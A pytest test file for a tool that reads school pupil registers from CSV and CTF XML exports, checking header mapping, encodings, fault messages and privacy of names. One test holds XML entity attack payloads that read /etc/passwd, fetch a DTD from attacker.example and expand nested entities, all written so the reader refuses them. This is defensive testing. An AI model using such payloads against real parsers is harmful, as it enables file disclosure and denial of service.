"""Registers: every usual form is read, every fault is named, and good rows are always used."""

from __future__ import annotations

from contextlib import suppress
from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from checker.errors import InputError
from checker.school.pupils import Register, count_partly, count_unused
from checker.school.register import read_register
from checker.school.sealing import KeyPlace

if TYPE_CHECKING:
    from pathlib import Path

HEAD = (
    "UPN,Legal Surname,Legal Forename,Preferred Name,Date of Birth,Gender,Year Group,Reg Group,"
    "SEN Status,EAL"
)


def _read(*paths: Path, **columns: str) -> Register:
    return read_register(paths, columns=columns, key=KeyPlace())


@pytest.mark.parametrize(
    "head",
    [
        "UPN,Legal Surname,Legal Forename,Preferred Name,Date of Birth,Gender,Year Group,Reg Group",
        (
            "UPN,Legal Last Name,Legal First Name,Preferred First Name,Date of birth,Sex,"
            "Year Group,Registration Form"
        ),
        "UPN,LegalLastName,LegalFirstName,PreferredFirstName,DateOfBirth,Gender,YearGroup,TutorGroup",
        "upn,legal_surname,legal_forename,forename,date_of_birth,gender,year,form",
        (
            "education_details.data.upn,legal_surname,legal_forename,forename,date_of_birth,gender,"
            "year.data.name,registration.data.name"
        ),
        "Unique Pupil Number,Surname,Forename,Known As,DOB,Gender,NC Year,Class",
        "Pupil UPN,Legal surname,Legal forename,Forename known by,DOB,Sex,NC Year,Class",
    ],
    ids=["SIMS", "Arbor", "Bromcom", "Wonde", "Wonde nested", "other", "another"],
)
def test_headers_of_every_school_system_are_recognised(write, head: str) -> None:
    """The same child comes out of exports that head their columns differently."""
    path = write("p.csv", f"{head}\nB801200005001,Brown,Alfred,Alfie,04/03/2018,M,Year 3,3R\n")

    (pupil,) = _read(path).pupils

    assert (pupil.upn, pupil.forename, pupil.surname) == ("B801200005001", "Alfred", "Brown")
    assert (pupil.preferred, pupil.sex, pupil.year, pupil.group) == ("Alfie", "M", "3", "3R")
    assert str(pupil.born) == "2018-03-04"


def test_other_headers_are_mapped_by_the_school_file(write) -> None:
    """A column map wins over what the headers seem to say."""
    path = write("p.csv", "Kind;Rufname;Forename;Surname\n1;Mia;Wrong;Field\n")

    (pupil,) = _read(path, forename="rufname").pupils

    assert (pupil.forename, pupil.surname) == ("Mia", "Field")
    with pytest.raises(InputError, match="no such column"):
        _read(path, forename="Vorname")


def test_missing_columns_name_file_line_and_remedy(write) -> None:
    """Without forenames there is nothing to look for, so the file is refused."""
    path = write("p.csv", "UPN,Nickname\nB801200005001,Alfie Brown\n")

    with pytest.raises(InputError) as caught:
        _read(path)

    assert f"{path}:1: there is no column of forenames and no column of surnames" in str(
        caught.value
    )
    assert "[register.columns] forename" in caught.value.remedy


def test_every_fault_names_its_row_and_good_rows_are_used(write) -> None:
    """Each bad cell is one problem with row and remedy; none shows what stands there."""
    path = write(
        "p.csv",
        f"{HEAD}\n"
        "B801200005001,Brown,Alfie,,04/03/2018,M,3,3R,N,No\n"
        "X801200005002,Okafor,Zainab,,04/03/2018,F,3,3R,K,No\n"
        "B801200005001,Brown,Alfie,,04/03/2018,M,3,3R,N,No\n"
        "B801200005001,Quill,Xanthe,,04/03/2018,F,3,3R,N,No\n"
        ",Tan,,,,,,,,\n"
        ",Shah,Omar,,31/02/2018,M,44,3R,Z,perhaps\n"
        ",Lamb,,Bo,,,,,,\n"
        ",,Cher,,,,,,,\n",
    )

    register = _read(path)

    said = [(one.row, one.problem.split()[0:4], one.used) for one in register.problems]
    assert [row for row, _, _ in said] == [3, 4, 5, 6, 7, 7, 7, 7, 8, 9]
    assert [one.forename for one in register.pupils] == [
        "Alfie",
        "Zainab",
        "Xanthe",
        "Omar",
        "Bo",
        "Cher",
    ]
    assert register.rows == 8
    assert count_unused(register.problems) == 2
    assert count_partly(register.problems) == 5
    assert register.ambiguous == {"B801200005001"}
    for one in register.problems:
        assert str(one).startswith(f"{path}:{one.row}: ")
        assert one.remedy
        for secret in ("Alfie", "Xanthe", "Omar", "31/02", "perhaps", "B8012"):
            assert secret not in str(one)


def test_a_file_of_windows_1252_is_named_once(write) -> None:
    """What Excel writes by itself is read whole, and nothing is said of its rows."""
    rows = [HEAD, ",Müller,Zoë,,,,,,,", ",García,Inês,,,,,,,", ",Brown,Alfie,,,,,,,"]

    register = _read(write("p.csv", "\r\n".join(rows).encode("cp1252")))

    assert [one.forename for one in register.pupils] == ["Zoë", "Inês", "Alfie"]
    assert [(one.row, "Windows-1252" in one.problem) for one in register.problems] == [(0, True)]
    assert count_partly(register.problems) == 0


def test_mixed_encodings_are_read_line_by_line(write) -> None:
    """A row in Windows-1252 inside a UTF-8 file is read, and named."""
    rows = [HEAD.encode(), ",Müller,Zoë,,,,,,,".encode(), ",García,Inês,,,,,,,".encode("cp1252")]

    register = _read(write("p.csv", b"\r\n".join(rows)))

    assert [one.forename for one in register.pupils] == ["Zoë", "Inês"]
    assert [(one.row, "Windows-1252" in one.problem) for one in register.problems] == [(3, True)]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
def test_marks_of_an_encoding_are_obeyed(write, encoding: str) -> None:
    """What Excel saves is read."""
    path = write("p.csv", f"{HEAD}\n,Müller,Zoë,,,,,,,\n".encode(encoding))

    assert _read(path).pupils[0].forename == "Zoë"


def test_rows_count_as_a_spreadsheet_does(write) -> None:
    """A cell with a line break inside moves later rows down; short and blank rows do no harm."""
    path = write("p.csv", f'{HEAD}\n,"Br\nown",Mia\n\n,Tan,,,,,,,,\n')

    register = _read(path)

    assert len(register.pupils) == 1
    assert [one.row for one in register.problems] == [5]


@pytest.mark.parametrize(
    ("data", "said"),
    [(b"", "empty"), (b"\x00\x01\x02", "not a CSV"), (b"<?xml version='1.0'?><a/>", "no pupil")],
)
def test_what_is_no_register_is_refused(write, data: bytes, said: str) -> None:
    """One clear line, and no guess."""
    with pytest.raises(InputError, match=said):
        _read(write("p.csv", data))


def test_what_breaks_off_inside_a_csv_names_the_line(write) -> None:
    """A cell that is longer than any name is no CSV from there on."""
    path = write("p.csv", f"{HEAD}\n,Brown,Alfie,,,,,,,\n,{'x' * 200_000},Mia,,,,,,,\n")

    with pytest.raises(InputError, match=r"p\.csv:3: this is no CSV"):
        _read(path)


def test_two_registers_are_joined_and_doubles_named(write) -> None:
    """Of a child on two of them the first stands; the other row is named with its file."""
    one = write("a.csv", f"{HEAD}\nB801200005001,Brown,Alfie,,,,,,,\n")
    two = write("b.csv", f"{HEAD}\nB801200005001,Brown,Alfie,,,,,,,\n,Tan,Mia,,,,,,,\n")

    register = _read(one, two)

    assert [pupil.forename for pupil in register.pupils] == ["Alfie", "Mia"]
    (problem,) = register.problems
    assert (problem.source, problem.row, problem.used) == (str(two), 2, False)
    assert f"row 2 of {one}" in problem.problem


def test_a_child_on_two_lists_keeps_what_either_says(write) -> None:
    """Last year's list has another class; that the child is looked after counts from both."""
    head = "UPN,Legal Surname,Legal Forename,Preferred Name,Year Group,Reg Group,Looked After\n"
    now = write("now.csv", f"{head}B801200005001,Brown,Alfie,,4,4R,No\n")
    before = write("before.csv", f"{head}B801200005001,Brown,Alfie,Fizz,3,3R,Yes\n")

    register = _read(now, before)

    (pupil,) = register.pupils
    assert (pupil.preferred, pupil.year, pupil.group) == ("Fizz", "4", "4R")
    assert pupil.traits == {"looked-after"}
    assert "in another year group" in str(register.problems[0])
    assert "Fizz" not in str(register.problems[0])


def test_rows_without_a_upn_are_one_child_where_name_and_birthday_agree(write) -> None:
    """Counted once; of one name alone there may be two children."""
    head = "Surname,Forename,DOB,Class\n"
    twice = "Brown,Alfie,2018-03-04,3R\nbrown,Alfie,4/3/2018,3R\n"
    register = _read(write("p.csv", head + twice + "Brown,Alfie,,3R\nBrown,Alfie,,3R\n"))

    assert [one.row for one in register.pupils] == [2, 4, 5]
    (problem,) = [one for one in register.problems if one.row]
    assert "the name and the date of birth stand in row 2 too" in str(problem)
    assert not register.ambiguous


FLAT = """<?xml version="1.0"?>
<CTfile><CTFpupilData>
<Pupil><UPN>B801200005001</UPN><Surname>O&apos;Brien</Surname><Forename>Zoë</Forename>
<DOB>2018-03-04</DOB><Gender>F</Gender><NCyearActual>3</NCyearActual></Pupil>
</CTFpupilData></CTfile>"""
NESTED = """<?xml version="1.0"?>
<CTfile xmlns="urn:x"><CTFpupilData>
<Pupil>
 <UPN>B801200005001</UPN>
 <BasicDetails><Surname>O'Brien</Surname><Forename>Zoë</Forename><DOB>2018-03-04</DOB><Sex>F</Sex>
  <PreferredForename>Zo</PreferredForename></BasicDetails>
 <Contacts><Contact><Surname>Else</Surname><Forename>Somebody</Forename></Contact></Contacts>
 <NCyearActual>3</NCyearActual>
</Pupil>
<Pupil><Surname>Tan</Surname></Pupil>
</CTFpupilData></CTfile>"""


@pytest.mark.parametrize("text", [FLAT, NESTED], ids=["flat", "nested"])
def test_ctf_is_read_flat_and_nested(write, text: str) -> None:
    """The pupil's own data count, wherever they stand; a contact's do not."""
    register = _read(write("p.xml", text))
    pupil = register.pupils[0]

    assert (pupil.forename, pupil.surname, pupil.sex, pupil.year) == ("Zoë", "O'Brien", "F", "3")
    assert pupil.preferred == ("Zo" if text is NESTED else "")
    assert [one.row for one in register.problems] == ([10] if text is NESTED else [])


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE CTfile [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE CTfile SYSTEM "http://attacker.example/x.dtd">',
        '<!DOCTYPE CTfile [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>',
    ],
)
def test_entities_of_a_ctf_are_refused(write, declared: str) -> None:
    """No file outside is read and nothing unfolds."""
    path = write("p.xml", f'<?xml version="1.0"?>\n{declared}\n<CTfile><Pupil/></CTfile>')

    with pytest.raises(InputError, match="entities"):
        _read(path)


def test_broken_xml_names_its_line(write) -> None:
    """What breaks off is refused with the line."""
    path = write("p.xml", "<CTfile>\n<Pupil>\n</CTfile>")

    with pytest.raises(InputError, match=r"p\.xml:3: this is broken XML"):
        _read(path)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.binary(max_size=400), head=st.booleans())
def test_no_bytes_break_the_reader(write, data: bytes, *, head: bool) -> None:
    """Whatever the bytes, there is a register or one clear line."""
    path = write("p.csv", (HEAD.encode() + b"\n" if head else b"") + data)

    with suppress(InputError):
        register = _read(path)
        assert all(one.row >= 0 for one in register.problems)


def test_a_pupil_never_shows_in_a_traceback(write) -> None:
    """What a program prints of a pupil, or of a register, is the row alone."""
    register = _read(write("p.csv", f"{HEAD}\n,Quill,Xanthe,,,,,,,\n"))

    assert "Xanthe" not in repr(register.pupils[0])
    assert "Xanthe" not in repr(register)
